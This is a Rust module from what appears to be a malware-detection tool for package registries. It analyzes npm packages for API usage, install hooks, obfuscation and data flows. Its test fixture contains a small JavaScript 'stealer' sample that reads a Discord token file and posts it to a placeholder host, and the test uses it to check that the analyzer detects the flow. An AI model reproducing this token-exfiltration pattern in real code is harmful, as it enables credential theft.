//! Whole-package static analysis.

use super::flow::{analyze_program, ExportIndex, ProgramPackage};
use super::hooks::detect_install_hook;
use super::labels::ApiLabelSet;
use super::parse::parse_unit;
use super::tree::NormalizedTree;
use super::usage::{combine_usage, direct_to_combined, extract_api_usage, merge_usages, CombinedApis};
use super::{StaticError, StaticSignal, UnitIssue, UsageSummary};
use crate::exec::{self, ExecMode};
use crate::registry::{ArchiveContents, FileKind, PackageCoordinate, SubjectLanguage};
use serde::{Deserialize, Serialize};
use std::collections::{BTreeMap, BTreeSet};
use std::time::{Duration, Instant};

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(default)]
pub struct StaticConfig {
    /// Wall-clock budget per unit, and for the flow solve of a package.
    #[serde(with = "secs")]
    pub unit_budget: Duration,
    pub max_file_bytes: u64,
    #[serde(skip)]
    pub exec: ExecMode,
}

impl Default for StaticConfig {
    fn default() -> Self {
        StaticConfig { unit_budget: Duration::from_secs(10), max_file_bytes: 2 * 1024 * 1024, exec: ExecMode::Parallel }
    }
}

mod secs {
    use serde::{Deserialize, Deserializer, Serializer};
    use std::time::Duration;

    pub fn serialize<S: Serializer>(d: &Duration, s: S) -> Result<S::Ok, S::Error> {
        s.serialize_f64(d.as_secs_f64())
    }

    pub fn deserialize<'de, D: Deserializer<'de>>(d: D) -> Result<Duration, D::Error> {
        let v = f64::deserialize(d)?;
        Duration::try_from_secs_f64(v).map_err(serde::de::Error::custom)
    }
}

/// One package to analyze, with what its dependencies already produced.
#[derive(Debug, Clone, Copy)]
pub struct StaticInput<'a> {
    pub coordinate: &'a PackageCoordinate,
    pub language: SubjectLanguage,
    pub module_name: &'a str,
    pub archive: &'a ArchiveContents,
    /// Direct dependencies outside the package's own component.
    pub deps: &'a [PackageCoordinate],
    pub dep_combined: &'a BTreeMap<PackageCoordinate, CombinedApis>,
    pub dep_exports: &'a ExportIndex,
}

struct UnitResult {
    tree: Option<NormalizedTree>,
    parse_error: Option<UnitIssue>,
    skipped: Option<UnitIssue>,
    suspect: bool,
}

fn is_source_unit(language: SubjectLanguage, path: &str, kind: FileKind) -> bool {
    kind == FileKind::Source
        && !path.split('/').any(|seg| seg == "node_modules")
        && path.rsplit_once('.').is_some_and(|(_, ext)| language.source_extensions().contains(&ext))
}

fn parse_units(input: &StaticInput<'_>, cfg: &StaticConfig) -> Vec<UnitResult> {
    let files: Vec<_> = input
        .archive
        .files
        .iter()
        .filter(|f| {
            let kind = crate::registry::classify_bytes(&f.path, &f.bytes).kind;
            is_source_unit(input.language, &f.path, kind)
        })
        .collect();
    exec::map(cfg.exec, &files, |f| {
        let issue = |message: String| UnitIssue { path: f.path.clone(), message };
        if f.bytes.len() as u64 > cfg.max_file_bytes {
            return UnitResult {
                tree: None,
                parse_error: None,
                skipped: Some(issue(format!("{} bytes exceeds the size cap", f.bytes.len()))),
                suspect: true,
            };
        }
        let Some(text) = f.text() else {
            return UnitResult {
                tree: None,
                parse_error: Some(issue("not UTF-8".into())),
                skipped: None,
                suspect: false,
            };
        };
        let started = Instant::now();
        match parse_unit(&f.path, text, input.language) {
            Ok(_) if started.elapsed() > cfg.unit_budget => UnitResult {
                tree: None,
                parse_error: None,
                skipped: Some(issue("analysis budget exceeded".into())),
                suspect: true,
            },
            Ok(parsed) => UnitResult { tree: Some(parsed.tree), parse_error: None, skipped: None, suspect: parsed.truncated },
            Err(e) => UnitResult { tree: None, parse_error: Some(issue(e.message)), skipped: None, suspect: false },
        }
    })
}

/// Entry unit of an npm package, relative path without extension.
fn js_main(archive: &ArchiveContents, units: &[NormalizedTree]) -> String {
    let declared = archive
        .get("package.json")
        .and_then(|f| f.text())
        .and_then(|t| serde_json::from_str::<serde_json::Value>(t).ok())
        .and_then(|v| v.get("main").and_then(|m| m.as_str()).map(str::to_string))
        .unwrap_or_else(|| "index".to_string());
    let base = declared.trim_start_matches("./").trim_end_matches('/');
    let base = [".js", ".cjs", ".mjs"].iter().find_map(|e| base.strip_suffix(e)).unwrap_or(base).to_string();
    let exists = |rel: &str| units.iter().any(|u| [".js", ".cjs", ".mjs"].iter().any(|e| u.path == format!("{rel}{e}")));
    if exists(&base) {
        base
    } else if exists(&format!("{base}/index")) {
        format!("{base}/index")
    } else {
        base
    }
}

/// Analyzes one package.
pub fn analyze_package(input: &StaticInput<'_>, labels: &ApiLabelSet, cfg: &StaticConfig) -> Result<UsageSummary, StaticError> {
    Ok(analyze_component(std::slice::from_ref(input), labels, cfg)?.remove(0))
}

/// Analyzes the members of one dependency cycle as a single logical
/// package. Every member receives the component's combined APIs and
/// flows; usages, exports and hooks stay per member.
pub fn analyze_component(
    inputs: &[StaticInput<'_>],
    labels: &ApiLabelSet,
    cfg: &StaticConfig,
) -> Result<Vec<UsageSummary>, StaticError> {
    let members: BTreeSet<&PackageCoordinate> = inputs.iter().map(|i| i.coordinate).collect();
    let mut per_member = Vec::new();
    for input in inputs {
        let mut trees = Vec::new();
        let mut parse_errors = Vec::new();
        let mut skipped_units = Vec::new();
        let mut signals = BTreeSet::new();
        for r in parse_units(input, cfg) {
            if r.suspect {
                signals.insert(StaticSignal::ObfuscationSuspect);
            }
            parse_errors.extend(r.parse_error);
            skipped_units.extend(r.skipped);
            trees.extend(r.tree);
        }
        let install_hooks = match detect_install_hook(input.language, input.archive, labels) {
            Ok(h) => h,
            Err(e) => {
                parse_errors.push(UnitIssue { path: e.path.clone(), message: e.to_string() });
                Vec::new()
            }
        };
        let direct = merge_usages(trees.iter().flat_map(|t| extract_api_usage(t, labels)));
        let main = match input.language {
            SubjectLanguage::Js => js_main(input.archive, &trees),
            _ => String::new(),
        };
        per_member.push((trees, main, direct, install_hooks, parse_errors, skipped_units, signals));
    }

    let own: Vec<_> = per_member.iter().flat_map(|(_, _, direct, ..)| direct.iter().cloned()).collect();
    let own = direct_to_combined(&own);
    let external: Vec<PackageCoordinate> = inputs
        .iter()
        .flat_map(|i| i.deps.iter())
        .filter(|d| !members.contains(d))
        .cloned()
        .collect::<BTreeSet<_>>()
        .into_iter()
        .collect();
    let combined = combine_usage(&own, &external, inputs[0].dep_combined)?;

    let mut exports_index = ExportIndex::new();
    for input in inputs {
        for (k, v) in input.dep_exports {
            exports_index.entry(k.clone()).or_insert_with(|| v.clone());
        }
    }

    let mut out = Vec::new();
    for (idx, input) in inputs.iter().enumerate() {
        // Rotate so this member is first and its exports are summarized.
        let order: Vec<usize> = (idx..inputs.len()).chain(0..idx).collect();
        let packages: Vec<ProgramPackage<'_>> = order
            .iter()
            .map(|&i| ProgramPackage {
                module_name: inputs[i].module_name.to_string(),
                main: per_member[i].1.clone(),
                units: per_member[i].0.iter().collect(),
            })
            .collect();
        let deadline = Instant::now() + cfg.unit_budget;
        let result = analyze_program(&packages, labels, &exports_index, Some(deadline));
        let (_, _, direct, hooks, parse_errors, skipped_units, signals) = &per_member[idx];
        let mut signals = signals.clone();
        if result.truncated {
            signals.insert(StaticSignal::ObfuscationSuspect);
        }
        out.push(UsageSummary {
            coordinate: input.coordinate.clone(),
            direct_apis: direct.clone(),
            combined_apis: combined.clone(),
            exports: result.exports,
            flows: result.flows,
            has_install_hook: !hooks.is_empty(),
            install_hooks: hooks.clone(),
            parse_errors: parse_errors.clone(),
            signals: signals.into_iter().collect(),
            skipped_units: skipped_units.clone(),
        });
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::registry::{ArchiveFile, Registry};
    use crate::static_analysis::{ApiCategory, ExportKind};

    fn archive(files: &[(&str, &str)]) -> ArchiveContents {
        ArchiveContents::from_files(
            files.iter().map(|(p, t)| ArchiveFile { path: p.to_string(), bytes: t.as_bytes().to_vec() }).collect(),
        )
    }

    #[test]
    fn dependency_summary_reaches_dependent() {
        let labels = ApiLabelSet::defaults();
        let cfg = StaticConfig::default();
        let dep_coord = PackageCoordinate::new(Registry::Npm, "request", "2.0.0").unwrap();
        let dep_archive = archive(&[
            ("package.json", r#"{"main":"index.js"}"#),
            ("index.js", "const https = require('https');\nfunction post(url, body) {\n  const request = https.request(url, {method: 'POST'});\n  request.write(body);\n}\nmodule.exports = { post };\n"),
        ]);
        let empty = BTreeMap::new();
        let no_exports = ExportIndex::new();
        let dep = analyze_package(
            &StaticInput {
                coordinate: &dep_coord,
                language: SubjectLanguage::Js,
                module_name: "request",
                archive: &dep_archive,
                deps: &[],
                dep_combined: &empty,
                dep_exports: &no_exports,
            },
            &labels,
            &cfg,
        )
        .unwrap();
        assert!(dep.exports.iter().any(|e| e.export_name == "request.post" && e.kind == ExportKind::IndirectSink));

        let top_coord = PackageCoordinate::new(Registry::Npm, "stealer", "0.1.0").unwrap();
        let top_archive = archive(&[(
            "index.js",
            "const fs = require('fs');\nconst request = require('request');\nconst token = fs.readFileSync('/home/u/.config/discord/token');\nrequest.post('https://x.example', token);\n{\n",
        )]);
        let combined = BTreeMap::from([(dep_coord.clone(), dep.combined_apis.clone())]);
        let mut exports = ExportIndex::new();
        for e in &dep.exports {
            exports.entry(e.export_name.clone()).or_default().push(e.clone());
        }
        let input = StaticInput {
            coordinate: &top_coord,
            language: SubjectLanguage::Js,
            module_name: "stealer",
            archive: &top_archive,
            deps: std::slice::from_ref(&dep_coord),
            dep_combined: &combined,
            dep_exports: &exports,
        };
        let broken = analyze_package(&input, &labels, &cfg).unwrap();
        assert_eq!(broken.parse_errors.len(), 1);

        let fixed = archive(&[(
            "index.js",
            "const fs = require('fs');\nconst request = require('request');\nconst token = fs.readFileSync('/home/u/.config/discord/token');\nrequest.post('https://x.example', token);\n",
        )]);
        let top = analyze_package(&StaticInput { archive: &fixed, ..input }, &labels, &cfg).unwrap();
        assert!(top.combined_apis.contains_key("https.request"));
        let flow = top.flows.iter().find(|f| f.source_category == ApiCategory::Filesystem).expect("flow");
        assert_eq!(flow.sink_category, ApiCategory::Network);
        assert_eq!(flow.sink.via, ["request.post"]);
    }
}
